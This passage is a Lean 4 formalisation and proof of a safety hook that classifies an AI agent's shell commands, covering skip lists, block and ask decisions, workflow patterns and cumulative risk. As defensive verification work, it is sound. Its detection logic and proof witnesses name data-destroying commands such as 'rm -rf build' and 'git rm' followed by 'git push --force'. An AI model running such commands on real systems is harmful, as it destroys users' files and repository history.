    _analyze_git_checkout_discard cwd env
  else if searchSeq (["git", "stash", "drop"].map String.toList) (command.length + 1) command then
    _analyze_git_stash_drop cwd command env
  else
    let rm_match := searchWith matchRmConsAt (command.length + 1) command
    let git_rm_match := searchWith matchGitRmConsAt (command.length + 1) command
    let targetsType : Option (List (List Char) × String) :=
      match rm_match with
      | some cap => some (splitWs (pyStrip cap), "rm")
      | none =>
        match git_rm_match with
        | some cap => some (splitWs (pyStrip cap), "git_rm")
        | none => none
    match targetsType with
    | none => none
    | some (targets, ty) =>
      if targets = [] then none
      else
        let c0 : Consequence := { empty_consequences with type := some ty }
        let c1 := targets.foldl (fun acc target =>
          if ['-'].isPrefixOf target then acc
          else
            let target1 := if isAbsPath target then target else joinPath cwd target
            let target2 := expandUser env target1
            if target2.contains '*' || target2.contains '?' then
              (env.glob target2).foldl (fun a path => _analyze_path env path a) acc
            else if (env.fs target2).isSome then
              _analyze_path env target2 acc
            else acc) c0
        if c1.files ≠ [] ∨ c1.dirs ≠ [] then
          some { c1 with warning := "WILL DELETE" }
        else none

-- ---------------------------------------------------------------------------
-- 4.7 Decision policy (`main`)
-- ---------------------------------------------------------------------------

/-- The JSON response of the classifier (each field read with `.get`, so each can
be absent). `source = "pattern"` is set by the inline fallback. -/
structure ClassifierResult where
  risk : Option String
  reason : Option (List Char)
  source : Option String
deriving DecidableEq

/-- The result of `call_llm_for_explanation`: both fields are always set by the
parsing code. -/
structure LlmResult where
  risk : String
  explanation : List Char
deriving DecidableEq

/-- Oracle for one invocation of `main`, one field per external interaction:
* `classifierResp` — the network classifier (`call_classifier`); `none`
  models unavailability (URL error, timeout, malformed/falsy response);
* `llmResp` — the LLM subprocess (`call_llm_for_explanation`); `none`
  models no provider configured or any failure;
* `scriptContent` — `extract_script_content` (matches script-execution
  shapes, then reads the script file: `none` when no shape matches or the
  file cannot be read);
* `inlineContent` — `extract_inline_content` (heredoc/echo/printf content
  extracted from the command text; the decision only consumes its verdict,
  so the extractor is threaded as an input);
* `env` — filesystem/git oracle for `get_destruction_consequences`;
* `now` — `datetime.now().isoformat()`;
* `md5hex12` — `hashlib.md5(...).hexdigest()[:12]`, the digest primitive
  used by `get_warning_key` (any fixed function; only determinism is used).
-/
structure Oracle where
  classifierResp : Option ClassifierResult
  llmResp : Option LlmResult
  scriptContent : Option (List Char)
  inlineContent : Option (List Char)
  env : Env
  now : String
  md5hex12 : List Char → String

/-- The configuration values consumed by the decision path
(`load_dedup_config`, `load_backup_config().enabled`, `skipCommands`). -/
structure Config where
  dedupEnabled : Bool
  backupEnabled : Bool
  skipAdditional : List (List Char)
  skipRemove : List (List Char)

/-- `load_skip_commands`: defaults plus `additional` minus `remove` (the
Python value is a set; only membership is ever used). -/
def load_skip_commands (cfg : Config) : List (List Char) :=
  (DEFAULT_SKIP_COMMANDS ++ cfg.skipAdditional).filter
    (fun t => !(cfg.skipRemove.contains t))

/-- `get_warning_key`. -/
def get_warning_key (o : Oracle) (command : List Char) : String :=
  "cmd-" ++ o.md5hex12 command

/-- Terminal outcomes of the policy: `skipped` = exit before any analysis
with no output; `allowSilent` = exit 0 with no prompt and no block;
`ask` = the `permissionDecision: ask` JSON output; `block` = exit 2. -/
inductive Decision where
  | skipped
  | allowSilent
  | ask
  | block
deriving DecidableEq

/-- Per-session durable state touched by one invocation: the command
history file and the shown-warning key set. -/
structure EngineState where
  history : History
  shownWarnings : List String
deriving DecidableEq

/-- Layer 1 with its inline fallback (main, classifier call and the
`if not classifier_result` fallback block). -/
def effective_classifier_result (o : Oracle) (command : List Char) :
    Option ClassifierResult :=
  match o.classifierResp with
  | some r => some r
  | none =>
    if is_safe_command command then
      some { risk := some "SAFE",
             reason := some ("Known safe command pattern".toList),
             source := some "pattern" }
    else if is_dangerous_command command then
      some { risk := some "DANGEROUS",
             reason := some ("Known dangerous command pattern".toList),
             source := some "pattern" }
    else none

/-- Risk/explanation selection of `main` (the progressive-degradation
block): `none` is the fail-open path (both layers yielded nothing, or the
classifier result is marked `source = "fallback"`). -/
def compute_risk_explanation (o : Oracle) (command : List Char) :
    Option (String × List Char) :=
  let classifier_result := effective_classifier_result o command
  match o.llmResp with
  | none =>
    match classifier_result with
    | some cr =>
      if cr.source ≠ some "fallback" then
        some (cr.risk.getD "MODERATE", cr.reason.getD ("Review command manually".toList))
      else none
    | none => none
  | some lr =>
    match classifier_result with
    | some cr => some (cr.risk.getD lr.risk, lr.explanation)
    | none => some (lr.risk, lr.explanation)

/-- The `if not explanation or explanation == "None"` guard of `main`. -/
def fix_explanation (o : Oracle) (command : List Char) (explanation : List Char) :
    List Char :=
  if explanation = [] ∨ explanation = "None".toList then
    match effective_classifier_result o command with
    | some cr =>
      match cr.reason with
      | some r => if r ≠ [] then r else "Review command before proceeding".toList
      | none => "Review command before proceeding".toList
    | none => "Review command before proceeding".toList
  else explanation

/-- `classifier_dangerous` of `main`: the (possibly fallback) classifier
result exists and reports DANGEROUS. -/
def classifier_dangerous (o : Oracle) (command : List Char) : Bool :=
  match effective_classifier_result o command with
  | some cr => cr.risk == some "DANGEROUS"
  | none => false

/-- `llm_dangerous` of `main`: the LLM result exists and reports
DANGEROUS. -/
def llm_dangerous (o : Oracle) : Bool :=
  match o.llmResp with
  | some lr => lr.risk == "DANGEROUS"
  | none => false

/-- The auto-block condition of `main`: DANGEROUS risk, not an inline
content write, and (classifier and LLM both DANGEROUS, or script content
was extracted and the LLM reported DANGEROUS). -/
def block_condition (o : Oracle) (command : List Char) (risk : String) : Bool :=
  let both_agree := classifier_dangerous o command && llm_dangerous o
  let script_analyzed := o.scriptContent.isSome && llm_dangerous o
  (risk == "DANGEROUS") && !o.inlineContent.isSome && (both_agree || script_analyzed)

/-- `main`, from the point where a non-empty Bash command has been read, as
a pure transition on the session state.  Faithful ordering of the source:
skip check; workflow detection and consequence analysis on the pre-update
history; classification with fallback; fail-open exit (before any state
write); explanation guard; history update; SAFE auto-allow; backup (which
copies files outside the modelled state and never changes the decision);
auto-block; deduplication; ask.  The result-cache write for the post-hook
is likewise outside the modelled state. -/
def runMain (cfg : Config) (o : Oracle) (command cwd : List Char) (st : EngineState) :
    Decision × EngineState :=
  if should_skip_command command (load_skip_commands cfg) then
    (Decision.skipped, st)
  else
    let workflow_patterns := detect_workflow_patterns st.history command
    let _destruction_consequences := get_destruction_consequences command cwd o.env
    match compute_risk_explanation o command with
    | none => (Decision.allowSilent, st)
    | some (risk, explanation0) =>
      let explanation := fix_explanation o command explanation0
      let history1 := add_command_to_history st.history command
        (if risk = "" then "MODERATE" else risk) explanation o.now
      let st1 : EngineState := { st with history := history1 }
      if risk = "SAFE" ∧ workflow_patterns = [] then
        (Decision.allowSilent, st1)
      else if block_condition o command risk then
        (Decision.block, st1)
      else if cfg.dedupEnabled then
        let warning_key := get_warning_key o command
        if st1.shownWarnings.contains warning_key then
          (Decision.allowSilent, st1)
        else
          (Decision.ask, { st1 with shownWarnings := st1.shownWarnings ++ [warning_key] })
      else
        (Decision.ask, st1)

-- ---------------------------------------------------------------------------
-- Lemmas: stripping does not affect operator containment
-- ---------------------------------------------------------------------------

lemma infix_dropWhile_intro {p l : List Char} {f : Char → Bool}
    (hne : p ≠ []) (hp : ∀ a ∈ p, f a = false) (h : p <:+: l) :
    p <:+: l.dropWhile f := by
  obtain ⟨u, v, rfl⟩ := h
  rw [List.append_assoc, List.dropWhile_append]
  split
  · cases p with
    | nil => exact absurd rfl hne
    | cons a p' =>
      rw [List.cons_append, List.dropWhile_cons, hp a (by simp)]
      exact ⟨[], v, by simp⟩
  · exact ⟨u.dropWhile f, v, by rw [List.append_assoc]⟩

lemma pyStrip_infix_self (l : List Char) : pyStrip l <:+: l := by
  unfold pyStrip
  have h2 : (l.dropWhile pyIsSpace).reverse.dropWhile pyIsSpace <:+
      (l.dropWhile pyIsSpace).reverse := List.dropWhile_suffix pyIsSpace
  have h3 : ((l.dropWhile pyIsSpace).reverse.dropWhile pyIsSpace).reverse <+:
      l.dropWhile pyIsSpace := by
    rw [← List.reverse_suffix]
    simpa using h2
  exact h3.isInfix.trans (List.dropWhile_suffix pyIsSpace).isInfix

lemma infix_pyStrip_iff {p l : List Char}
    (hne : p ≠ []) (hp : ∀ a ∈ p, pyIsSpace a = false) :
    p <:+: pyStrip l ↔ p <:+: l := by
  constructor
  · intro h
    exact h.trans (pyStrip_infix_self l)
  · intro h
    unfold pyStrip
    have hne' : p.reverse ≠ [] := by simpa using hne
    have hp' : ∀ a ∈ p.reverse, pyIsSpace a = false := fun a ha => hp a (by simpa using ha)
    have h1 : p <:+: l.dropWhile pyIsSpace := infix_dropWhile_intro hne hp h
    have h2 : p.reverse <:+: (l.dropWhile pyIsSpace).reverse := List.reverse_infix.mpr h1
    have h3 : p.reverse <:+: (l.dropWhile pyIsSpace).reverse.dropWhile pyIsSpace :=
      infix_dropWhile_intro hne' hp' h2
    have h4 := List.reverse_infix.mpr h3
    simpa using h4

lemma dangerous_operators_shape :
    ∀ op ∈ DANGEROUS_SHELL_OPERATORS, op ≠ [] ∧ ∀ a ∈ op, pyIsSpace a = false := by
  decide

lemma has_dangerous_operators_pyStrip (c : List Char) :
    has_dangerous_operators (pyStrip c) = has_dangerous_operators c := by
  unfold has_dangerous_operators
  rw [Bool.eq_iff_iff]
  simp only [List.any_eq_true, containsSub, decide_eq_true_eq]
  constructor
  · rintro ⟨op, hop, hin⟩
    obtain ⟨hne, hsp⟩ := dangerous_operators_shape op hop
    exact ⟨op, hop, (infix_pyStrip_iff hne hsp).mp hin⟩
  · rintro ⟨op, hop, hin⟩
    obtain ⟨hne, hsp⟩ := dangerous_operators_shape op hop
    exact ⟨op, hop, (infix_pyStrip_iff hne hsp).mpr hin⟩

/-- Claim C5: `should_skip_command c S` is true exactly when the trimmed
command equals a skip token or starts with one followed by a space or a
tab, and the command contains none of the dangerous shell operators; and
appending any single dangerous operator to a skippable command always
defeats the skip. -/
theorem should_skip_command_iff (c : List Char) (S : List (List Char)) :
    (should_skip_command c S = true ↔
      ((∃ t ∈ S, pyStrip c = t ∨ (t ++ [' ']) <+: pyStrip c ∨ (t ++ ['\t']) <+: pyStrip c) ∧
        has_dangerous_operators c = false)) ∧
    (∀ op ∈ DANGEROUS_SHELL_OPERATORS, should_skip_command c S = true →
      should_skip_command (c ++ op) S = false) := by
  constructor
  · unfold should_skip_command
    simp only [has_dangerous_operators_pyStrip]
    by_cases hops : has_dangerous_operators c = true
    · simp [hops]
    · have hops' : has_dangerous_operators c = false := by
        cases hh : has_dangerous_operators c
        · rfl
        · exact absurd hh hops
      simp [hops', List.any_eq_true, List.isPrefixOf_iff_prefix, or_assoc]
  · intro op hop _
    unfold should_skip_command
    have hops : has_dangerous_operators (pyStrip (c ++ op)) = true := by
      rw [has_dangerous_operators_pyStrip]
      unfold has_dangerous_operators
      rw [List.any_eq_true]
      refine ⟨op, hop, ?_⟩
      simp only [containsSub, decide_eq_true_eq]
      exact (List.suffix_append c op).isInfix
    simp [hops]

/-- Witness for C5 at a concrete skip-listed command and operator. -/
theorem should_skip_command_iff_witness :
    should_skip_command ("ls -la".toList) DEFAULT_SKIP_COMMANDS = true ∧
    should_skip_command ("ls -la&".toList) DEFAULT_SKIP_COMMANDS = false := by
  have h1 : should_skip_command ("ls -la".toList) DEFAULT_SKIP_COMMANDS = true :=
    (should_skip_command_iff ("ls -la".toList) DEFAULT_SKIP_COMMANDS).1.mpr
      ⟨by decide, by decide⟩
  have h2 := (should_skip_command_iff ("ls -la".toList) DEFAULT_SKIP_COMMANDS).2
    ("&".toList) (by decide) h1
  refine ⟨h1, ?_⟩
  have heq : ("ls -la&".toList : List Char) = "ls -la".toList ++ "&".toList := by decide
  rw [heq]
  exact h2

-- ---------------------------------------------------------------------------
-- Lemmas: workflow matching uses strictly increasing indices
-- ---------------------------------------------------------------------------

lemma findHitAux_spec (required : List Char) (start : Nat) :
    ∀ (l : List (List Char)) (base i : Nat),
      findHitAux required start l base = some i →
      start ≤ i ∧ base ≤ i ∧ ∃ cmd, l.get? (i - base) = some cmd ∧
        containsSub (lowerStr cmd) (lowerStr required) = true := by
  intro l
  induction l with
  | nil => intro base i h; simp [findHitAux] at h
  | cons c rest ih =>
    intro base i h
    unfold findHitAux at h
    by_cases hc : (start ≤ base && containsSub (lowerStr c) (lowerStr required)) = true
    · rw [if_pos hc] at h
      cases h
      simp only [Bool.and_eq_true, decide_eq_true_eq] at hc
      exact ⟨hc.1, le_refl _, c, by simp, hc.2⟩
    · rw [if_neg hc] at h
      obtain ⟨h1, h2, cmd, h3, h4⟩ := ih (base + 1) i h
      refine ⟨h1, by omega, cmd, ?_, h4⟩
      have hib : i - base = (i - (base + 1)) + 1 := by omega
      rw [hib]
      simpa using h3

lemma matchRequired_spec (recent : List (List Char)) :
    ∀ (reqs : List (List Char)) (start : Nat),
      matchRequired recent reqs start = true →
      ∃ idxs : List Nat, List.Chain' (· < ·) idxs ∧ (∀ j ∈ idxs, start ≤ j) ∧
        List.Forall₂ (fun required idx => ∃ cmd, recent.get? idx = some cmd ∧
          containsSub (lowerStr cmd) (lowerStr required) = true) reqs idxs := by
  intro reqs
  induction reqs with
  | nil => intro start _; exact ⟨[], by simp, by simp, List.Forall₂.nil⟩
  | cons r rs ih =>
    intro start h
    unfold matchRequired at h
    cases hf : findHitAux r start recent 0 with
    | none => rw [hf] at h; exact absurd h (by simp)
    | some i =>
      rw [hf] at h
      obtain ⟨hs, _, cmd, hg, hcont⟩ := findHitAux_spec r start recent 0 i hf
      obtain ⟨idxs, hchain, hge, hfa⟩ := ih (i + 1) h
      refine ⟨i :: idxs, ?_, ?_, List.Forall₂.cons ⟨cmd, by simpa using hg, hcont⟩ hfa⟩
      · cases idxs with
        | nil => simp
        | cons j js =>
          rw [List.chain'_cons]
          exact ⟨by have := hge j (by simp); omega, hchain⟩
      · intro j hj
        rcases List.mem_cons.mp hj with rfl | hj'
        · exact hs
        · have := hge j hj'; omega

/-- Claim C6: a workflow pattern fires only when its required substrings
occur (case-insensitively) at strictly increasing indices of the working
sequence (last 3 history commands plus the current command); the detection
result depends only on that window, so older commands never contribute. -/
theorem detect_workflow_patterns_strict_order (h : History) (cur : List Char) :
    (∀ out ∈ detect_workflow_patterns h cur,
      ∃ wp ∈ WORKFLOW_PATTERNS, out = [wp.name, wp.risk, wp.description] ∧
        ∃ idxs : List Nat, List.Chain' (· < ·) idxs ∧
          List.Forall₂ (fun required idx => ∃ cmd,
            (recentCommands h cur).get? idx = some cmd ∧
            containsSub (lowerStr cmd) (lowerStr required) = true) wp.required idxs) ∧
    (∀ h2 : History,
      (h2.commands.map (fun c => c.command)).drop (h2.commands.length - 3) =
        (h.commands.map (fun c => c.command)).drop (h.commands.length - 3) →
      detect_workflow_patterns h2 cur = detect_workflow_patterns h cur) := by
  constructor
  · intro out hout
    unfold detect_workflow_patterns at hout
    rw [List.mem_filterMap] at hout
    obtain ⟨wp, hwp, heq⟩ := hout
    by_cases hm : matchRequired (recentCommands h cur) wp.required 0 = true
    · rw [if_pos hm] at heq
      cases heq
      obtain ⟨idxs, hc, _, hfa⟩ := matchRequired_spec _ wp.required 0 hm
      exact ⟨wp, hwp, rfl, idxs, hc, hfa⟩
    · rw [if_neg hm] at heq
      exact absurd heq (by simp)
  · intro h2 hEq
    unfold detect_workflow_patterns recentCommands
    simp only [List.length_map]
    rw [hEq]

/-- Witness for C6: `git rm` followed by `git push --force` fires
REPO_WIPE, so its required substrings admit strictly increasing indices. -/
theorem detect_workflow_patterns_strict_order_witness :
    ∃ wp ∈ WORKFLOW_PATTERNS,
      (["REPO_WIPE", "CRITICAL",
        "Repository wipe: removing files from git and force pushing rewrites history permanently"] :
          List String) = [wp.name, wp.risk, wp.description] ∧
      ∃ idxs : List Nat, List.Chain' (· < ·) idxs ∧
        List.Forall₂ (fun required idx => ∃ cmd,
          (recentCommands
            { default_history with
                commands := [⟨"git rm file.txt".toList, "MODERATE", [], "t"⟩] }
            ("git push --force".toList)).get? idx = some cmd ∧
          containsSub (lowerStr cmd) (lowerStr required) = true) wp.required idxs :=
  (detect_workflow_patterns_strict_order
    { default_history with commands := [⟨"git rm file.txt".toList, "MODERATE", [], "t"⟩] }
    ("git push --force".toList)).1 _ (by decide)

-- ---------------------------------------------------------------------------
-- Cumulative risk as a closed max-formula (claims C3, C4)
-- ---------------------------------------------------------------------------

/-- Maximum ordinal (default 1) over the historical command risks. -/
def cmdMaxOrd (cs : List CommandRecord) : Nat :=
  cs.foldl (fun a c => max a (riskOrdD c.risk 1)) 0

/-- Number of historical commands whose risk is exactly `DANGEROUS`. -/
def dangerousCount (cs : List CommandRecord) : Nat :=
  cs.countP (fun c => c.risk == "DANGEROUS")

/-- The escalation floor contributed by the dangerous-command count. -/
def dangerousFloor (cs : List CommandRecord) : Nat :=
  if 5 ≤ dangerousCount cs then 3 else if 3 ≤ dangerousCount cs then 2 else 0

/-- Maximum ordinal (default 2 for an unknown risk string, risk `HIGH` for
a too-short pattern entry) over the detected workflow patterns. -/
def patternMaxOrd (ps : List DetectedPattern) : Nat :=
  ps.foldl (fun a p => max a (riskOrdD (patternRiskOf p) 2)) 0

/-- The escalation formula exactly as claim C4 states it, including the
`ordinal(history.cumulative_risk)` term.  This follows the claim's words
and is compared against `calculate_cumulative_risk`, which embeds the
source. -/
def cumulative_risk_claimed (history : History) (current_risk : String) : String :=
  riskName (max (max (max (max (riskOrdD current_risk 1)
    (riskOrdD history.cumulative_risk 1))
    (cmdMaxOrd history.commands)) (dangerousFloor history.commands))
    (patternMaxOrd history.patterns_detected))

/-- The amended formula: as claim C4, but without the
`ordinal(history.cumulative_risk)` term, which the source never reads. -/
def cumulative_risk_formula (history : History) (current_risk : String) : String :=
  riskName (max (max (max (riskOrdD current_risk 1)
    (cmdMaxOrd history.commands)) (dangerousFloor history.commands))
    (patternMaxOrd history.patterns_detected))

lemma foldl_max_init {α : Type} (g : α → Nat) :
    ∀ (l : List α) (i : Nat),
      l.foldl (fun a x => max a (g x)) i = max i (l.foldl (fun a x => max a (g x)) 0) := by
  intro l
  induction l with
  | nil => intro i; simp
  | cons x xs ih =>
    intro i
    simp only [List.foldl_cons]
    rw [ih (max i (g x)), ih (max 0 (g x))]
    simp [Nat.max_assoc]

lemma cmdMaxOrd_cons (c : CommandRecord) (cs : List CommandRecord) :
    cmdMaxOrd (c :: cs) = max (riskOrdD c.risk 1) (cmdMaxOrd cs) := by
  unfold cmdMaxOrd
  simp only [List.foldl_cons]
  rw [foldl_max_init]
  simp

lemma cumulativeFold_spec :
    ∀ (cs : List CommandRecord) (i k : Nat),
      cs.foldl cumulativeStep (i, k) = (max i (cmdMaxOrd cs), k + dangerousCount cs) := by
  intro cs
  induction cs with
  | nil => intro i k; simp [cmdMaxOrd, dangerousCount]
  | cons c rest ih =>
    intro i k
    simp only [List.foldl_cons, cumulativeStep]
    rw [ih]
    rw [cmdMaxOrd_cons]
    unfold dangerousCount
    rw [List.countP_cons]
    refine Prod.ext ?_ ?_
    · simp [Nat.max_assoc]
    · simp only
      by_cases hd : c.risk = "DANGEROUS"
      · simp [hd]; omega
      · simp [hd]

lemma dangerousFloor_mono {cs ds : List CommandRecord}
    (h : dangerousCount cs ≤ dangerousCount ds) :
    dangerousFloor cs ≤ dangerousFloor ds := by
  unfold dangerousFloor
  split_ifs <;> omega

lemma calculate_cumulative_risk_formula_aux (h : History) (current_risk : String) :
    calculate_cumulative_risk h current_risk = cumulative_risk_formula h current_risk := by
  unfold calculate_cumulative_risk cumulative_risk_formula
  rw [cumulativeFold_spec]
  simp only [Nat.zero_add]
  rw [foldl_max_init]
  congr 1
  unfold dangerousFloor patternMaxOrd
  split_ifs <;> omega

/-- Claim C4 (amended): `calculate_cumulative_risk` equals the closed
formula `max(ordinal(currentRisk), max over historical command risks,
count floor (CRITICAL at ≥5 and HIGH at ≥3 DANGEROUS commands), max over
detected-pattern risks with HIGH default)` — without the
`ordinal(history.cumulative_risk)` term of the original claim. -/
theorem calculate_cumulative_risk_eq_formula (h : History) (current_risk : String) :
    calculate_cumulative_risk h current_risk = cumulative_risk_formula h current_risk :=
  calculate_cumulative_risk_formula_aux h current_risk

/-- Counterexample to claim C4 as stated: with an empty command history
whose stored `cumulative_risk` is CRITICAL and a LOW current risk, the
source computes LOW, but the claimed formula (which maxes in the stored
`cumulative_risk`) computes CRITICAL. -/
theorem calculate_cumulative_risk_claimed_cex :
    calculate_cumulative_risk
      { commands := [], cumulative_risk := "CRITICAL",
        patterns_detected := [], files_at_risk := [] } "LOW" = "LOW" ∧
    cumulative_risk_claimed
      { commands := [], cumulative_risk := "CRITICAL",
        patterns_detected := [], files_at_risk := [] } "LOW" = "CRITICAL" ∧
    calculate_cumulative_risk
      { commands := [], cumulative_risk := "CRITICAL",
        patterns_detected := [], files_at_risk := [] } "LOW" ≠
    cumulative_risk_claimed
      { commands := [], cumulative_risk := "CRITICAL",
        patterns_detected := [], files_at_risk := [] } "LOW" := by
  refine ⟨by decide, by decide, by decide⟩

-- ---------------------------------------------------------------------------
-- Monotonicity of cumulative risk (claim C3)
-- ---------------------------------------------------------------------------

lemma appendUnique_extend {α : Type} [BEq α] :
    ∀ (ps init : List α), ∃ q, appendUnique init ps = init ++ q := by
  intro ps
  induction ps with
  | nil => intro init; exact ⟨[], by simp [appendUnique]⟩
  | cons p rest ih =>
    intro init
    unfold appendUnique
    by_cases hc : init.contains p = true
    · rw [if_pos hc]
      exact ih init
    · rw [if_neg hc]
      obtain ⟨q, hq⟩ := ih (init ++ [p])
      exact ⟨p :: q, by rw [hq, List.append_assoc]; rfl⟩

lemma riskOrdD_le_of (r : String) {d : Nat} (hd : d ≤ 3) : riskOrdD r d ≤ 3 := by
  unfold riskOrdD
  split_ifs <;> omega

lemma cmdMaxOrd_le (cs : List CommandRecord) : cmdMaxOrd cs ≤ 3 := by
  induction cs with
  | nil => simp [cmdMaxOrd]
  | cons c rest ih =>
    rw [cmdMaxOrd_cons]
    exact Nat.max_le.mpr ⟨riskOrdD_le_of _ (by omega), ih⟩

lemma patternMaxOrd_cons (p : DetectedPattern) (ps : List DetectedPattern) :
    patternMaxOrd (p :: ps) = max (riskOrdD (patternRiskOf p) 2) (patternMaxOrd ps) := by
  unfold patternMaxOrd
  simp only [List.foldl_cons]
  rw [foldl_max_init]
  simp

lemma patternMaxOrd_le (ps : List DetectedPattern) : patternMaxOrd ps ≤ 3 := by
  induction ps with
  | nil => simp [patternMaxOrd]
  | cons p rest ih =>
    rw [patternMaxOrd_cons]
    exact Nat.max_le.mpr ⟨riskOrdD_le_of _ (by omega), ih⟩

lemma dangerousFloor_le (cs : List CommandRecord) : dangerousFloor cs ≤ 3 := by
  unfold dangerousFloor
  split_ifs <;> omega

lemma riskOrdD_riskName {n : Nat} (hn : n ≤ 3) : riskOrdD (riskName n) 1 = n := by
  interval_cases n <;> decide

lemma cmdMaxOrd_append (cs ds : List CommandRecord) :
    cmdMaxOrd (cs ++ ds) = max (cmdMaxOrd cs) (cmdMaxOrd ds) := by
  unfold cmdMaxOrd
  rw [List.foldl_append]
  rw [foldl_max_init]

lemma patternMaxOrd_append (ps qs : List DetectedPattern) :
    patternMaxOrd (ps ++ qs) = max (patternMaxOrd ps) (patternMaxOrd qs) := by
  unfold patternMaxOrd
  rw [List.foldl_append]
  rw [foldl_max_init]

lemma dangerousCount_append (cs ds : List CommandRecord) :
    dangerousCount (cs ++ ds) = dangerousCount cs + dangerousCount ds := by
  unfold dangerousCount
  rw [List.countP_append]

/-- The ordinal that the stored history contents justify: the part of the
escalation formula that does not depend on the current command. -/
def historySupportOrd (h : History) : Nat :=
  max (max (cmdMaxOrd h.commands) (dangerousFloor h.commands))
    (patternMaxOrd h.patterns_detected)

lemma add_command_cumulative_ord (h : History) (command : List Char) (risk : String)
    (explanation : List Char) (timestamp : String) (hlen : h.commands.length < 50) :
    ∃ q : List DetectedPattern,
      riskOrdD (add_command_to_history h command risk explanation timestamp).cumulative_risk 1 =
        max (max (max (riskOrdD risk 1)
          (cmdMaxOrd (h.commands ++ [histEntry command risk explanation timestamp])))
          (dangerousFloor (h.commands ++ [histEntry command risk explanation timestamp])))
          (patternMaxOrd (h.patterns_detected ++ q)) := by
  have hno : ¬ 50 < (h.commands ++ [histEntry command risk explanation timestamp]).length := by
    simp only [List.length_append, List.length_cons, List.length_nil]
    omega
  obtain ⟨q, hq⟩ := appendUnique_extend
    (detect_workflow_patterns
      { h with commands := h.commands ++ [histEntry command risk explanation timestamp] }
      command)
    h.patterns_detected
  refine ⟨q, ?_⟩
  unfold add_command_to_history
  simp only [if_neg hno]
  rw [calculate_cumulative_risk_formula_aux]
  unfold cumulative_risk_formula
  simp only [hq]
  rw [riskOrdD_riskName]
  exact Nat.max_le.mpr ⟨Nat.max_le.mpr ⟨Nat.max_le.mpr
    ⟨riskOrdD_le_of _ (by omega), cmdMaxOrd_le _⟩, dangerousFloor_le _⟩, patternMaxOrd_le _⟩

/-- Claim C3 (amended): appending a command via `add_command_to_history`
never lowers `cumulative_risk`, provided the stored `cumulative_risk` does
not exceed what the calculator derives from the stored commands and
patterns (true of every history the engine itself produced) and the
50-command cap does not evict an entry.  When eviction occurs the level can
drop (see the counterexample). -/
theorem cumulative_risk_monotone (h : History) (command : List Char) (risk : String)
    (explanation : List Char) (timestamp : String)
    (hsupp : riskOrdD h.cumulative_risk 1 ≤ historySupportOrd h)
    (hlen : h.commands.length < 50) :
    riskOrdD h.cumulative_risk 1 ≤
      riskOrdD (add_command_to_history h command risk explanation timestamp).cumulative_risk 1 := by
  obtain ⟨q, hq⟩ := add_command_cumulative_ord h command risk explanation timestamp hlen
  rw [hq]
  refine le_trans hsupp ?_
  unfold historySupportOrd
  have h1 : cmdMaxOrd h.commands ≤
      cmdMaxOrd (h.commands ++ [histEntry command risk explanation timestamp]) := by
    rw [cmdMaxOrd_append]; omega
  have h2 : dangerousFloor h.commands ≤
      dangerousFloor (h.commands ++ [histEntry command risk explanation timestamp]) :=
    dangerousFloor_mono (by rw [dangerousCount_append]; omega)
  have h3 : patternMaxOrd h.patterns_detected ≤ patternMaxOrd (h.patterns_detected ++ q) := by
    rw [patternMaxOrd_append]; omega
  omega

/-- Witness for C3 (amended) on a fresh history and a concrete command. -/
theorem cumulative_risk_monotone_witness :
    riskOrdD default_history.cumulative_risk 1 ≤ historySupportOrd default_history ∧
    default_history.commands.length < 50 ∧
    riskOrdD default_history.cumulative_risk 1 ≤
      riskOrdD (add_command_to_history default_history ("rm -rf build".toList)
        "MODERATE" [] "t").cumulative_risk 1 :=
  ⟨by decide, by decide,
    cumulative_risk_monotone default_history ("rm -rf build".toList) "MODERATE" [] "t"
      (by decide) (by decide)⟩

set_option maxRecDepth 100000 in
/-- A reachable session state refuting claim C3 as stated: 50 stored
commands of which the 5 oldest are DANGEROUS, cumulative risk CRITICAL
(exactly what the calculator yields on this history, as the second
conjunct certifies).  Appending a 51st, MODERATE command evicts one
DANGEROUS entry, the dangerous count drops to 4, and the recomputed
cumulative risk falls from CRITICAL to HIGH. -/
theorem cumulative_risk_monotone_cex :
    ({ commands := List.replicate 5 ⟨['x'], "DANGEROUS", [], "t"⟩ ++
         List.replicate 45 ⟨['x'], "MODERATE", [], "t"⟩,
       cumulative_risk := "CRITICAL", patterns_detected := [],
       files_at_risk := [] } : History).cumulative_risk = "CRITICAL" ∧
    calculate_cumulative_risk
      { commands := List.replicate 5 ⟨['x'], "DANGEROUS", [], "t"⟩ ++
          List.replicate 45 ⟨['x'], "MODERATE", [], "t"⟩,
        cumulative_risk := "CRITICAL", patterns_detected := [],
        files_at_risk := [] } "MODERATE" = "CRITICAL" ∧
    (add_command_to_history
      { commands := List.replicate 5 ⟨['x'], "DANGEROUS", [], "t"⟩ ++
          List.replicate 45 ⟨['x'], "MODERATE", [], "t"⟩,
        cumulative_risk := "CRITICAL", patterns_detected := [],
        files_at_risk := [] } ['y'] "MODERATE" [] "t").cumulative_risk = "HIGH" ∧
    ¬ (riskOrdD "CRITICAL" 1 ≤ riskOrdD "HIGH" 1) := by
  refine ⟨rfl, by decide, by decide, by decide⟩

-- ---------------------------------------------------------------------------
-- History caps and eviction order (claim C9)
-- ---------------------------------------------------------------------------

lemma add_command_commands_eq (h : History) (command : List Char) (risk : String)
    (explanation : List Char) (timestamp : String) :
    (add_command_to_history h command risk explanation timestamp).commands =
      (h.commands ++ [histEntry command risk explanation timestamp]).drop
        (h.commands.length + 1 - 50) := by
  unfold add_command_to_history
  by_cases h50 : 50 < (h.commands ++ [histEntry command risk explanation timestamp]).length
  · simp only [if_pos h50]
    simp [List.length_append]
  · simp only [if_neg h50]
    simp only [List.length_append, List.length_cons, List.length_nil] at h50
    have h0 : h.commands.length + 1 - 50 = 0 := by omega
    simp [h0]

lemma add_command_files_eq (h : History) (command : List Char) (risk : String)
    (explanation : List Char) (timestamp : String) :
    (add_command_to_history h command risk explanation timestamp).files_at_risk =
      (appendUnique h.files_at_risk (extract_affected_paths command)).drop
        ((appendUnique h.files_at_risk (extract_affected_paths command)).length - 100) := by
  unfold add_command_to_history
  by_cases h100 : 100 <
      (appendUnique h.files_at_risk (extract_affected_paths command)).length
  · simp only [if_pos h100]
  · simp only [if_neg h100]
    have h0 : (appendUnique h.files_at_risk (extract_affected_paths command)).length - 100 = 0 := by
      omega
    simp [h0]

/-- Claim C9: after `add_command_to_history` the commands list holds at
most 50 entries and `files_at_risk` at most 100; the retained entries are
exactly the most recent ones in order (both lists are the suffix of the
appended list that fits the cap); in particular appending a 51st command
evicts exactly the oldest one. -/
theorem add_command_to_history_caps (h : History) (command : List Char) (risk : String)
    (explanation : List Char) (timestamp : String) :
